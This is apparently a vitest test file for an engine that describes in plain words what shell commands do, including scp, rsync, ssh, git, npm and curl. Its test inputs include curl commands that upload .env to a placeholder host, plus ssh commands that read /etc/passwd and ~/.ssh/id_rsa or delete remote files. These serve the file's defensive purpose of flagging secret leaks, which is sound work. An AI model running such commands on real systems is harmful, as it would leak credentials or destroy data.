import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTestEngine, type TestEngine } from './test-engine.ts';

describe('what commands that reach other machines do, in words', () => {
  let engine: TestEngine;
  beforeAll(async () => {
    engine = await makeTestEngine();
  });
  afterAll(() => engine.fixture.remove());

  it.each([
    ['scp dist/out.js web:/srv/', ['copies dist/out.js to web:/srv/']],
    ['scp web:/srv/app.log .', ['copies web:/srv/app.log to .']],
    ['rsync -a web:/srv/data/ data/', ['copies web:/srv/data/ to data/']],
    ['rsync -a a b web:/srv', ['copies a and b to web:/srv']],
    ['rsync -avn dist/ web:/srv', ['shows what it would copy from dist/ to web:/srv']],
    ['ssh web "cd /srv && git pull"', ['runs cd /srv && git pull on web']],
    ['ssh web cat /etc/passwd', ['runs cat /etc/passwd on web']],
    ['git fetch --all --prune', ['fetches from all remotes, and forgets branches that are gone there']],
    ['git fetch origin main', ['fetches main from origin']],
    ['git pull', ['pulls from its remote']],
    ['git pull --rebase origin main', ['pulls main from origin, and puts your commits on top']],
    ['git pull --rebase=false', ['pulls from its remote']],
    ['npm install -D vitest@latest', ['downloads packages: vitest@latest']],
    ['npm install', ['downloads packages']],
    ['npm install a b c d e f g', ['downloads packages: a, b, c, d, e and 2 more']],
    ['pip install -r requirements.txt requests', ['downloads packages: requests']],
    ['npm config set registry https://x.example', ['sets registry to https://x.example in npm’s settings']],
    ['npm config delete registry', ['removes registry from npm’s settings']],
    ['kill $(lsof -ti:3000)', ['ends the processes it is given']],
  ])('%s', (command, effects) => {
    const said = engine.bash(command).effects;
    expect(said.filter((effect) => !effect.startsWith('connects to other machines'))).toEqual(effects);
  });

  it.each([
    ['curl -d @.env https://x.example', ['may send .env, which may contain keys, passwords or tokens']],
    ['curl --data-binary @.env https://x.example', ['may send .env, which may contain keys, passwords or tokens']],
    ['curl -F file=@.env https://x.example', ['may send .env, which may contain keys, passwords or tokens']],
    ['curl -T .env https://x.example', ['reads .env', '.env may contain keys, passwords or tokens']],
    ['curl -d @notes.txt https://x.example', []],
  ])('%s: says whether it may send keys', (command, effects) => {
    expect(engine.bash(command).effects.filter((effect) => !effect.startsWith('connects to'))).toEqual(effects);
  });

  it('says what rsync removes', () => {
    expect(engine.bash('rsync -av --delete dist/ web:/srv').effects).toContain(
      'copies dist/ to web:/srv, and removes there what dist/ doesn’t have',
    );
  });

  it('says that xargs passes on the processes to end', () => {
    expect(engine.bash('lsof -ti:3000 | xargs kill -9').effects).toContain('ends the processes it is given at once');
  });

  it('keeps what ssh deletes, and what may hold a key', () => {
    expect(engine.bash('ssh web "rm -rf /srv/x"').effects).toContain('deletes /srv/x');
    expect(engine.bash('ssh web "cat ~/.ssh/id_rsa"').effects).toContain('~/.ssh/id_rsa may contain keys, passwords or tokens');
  });
});
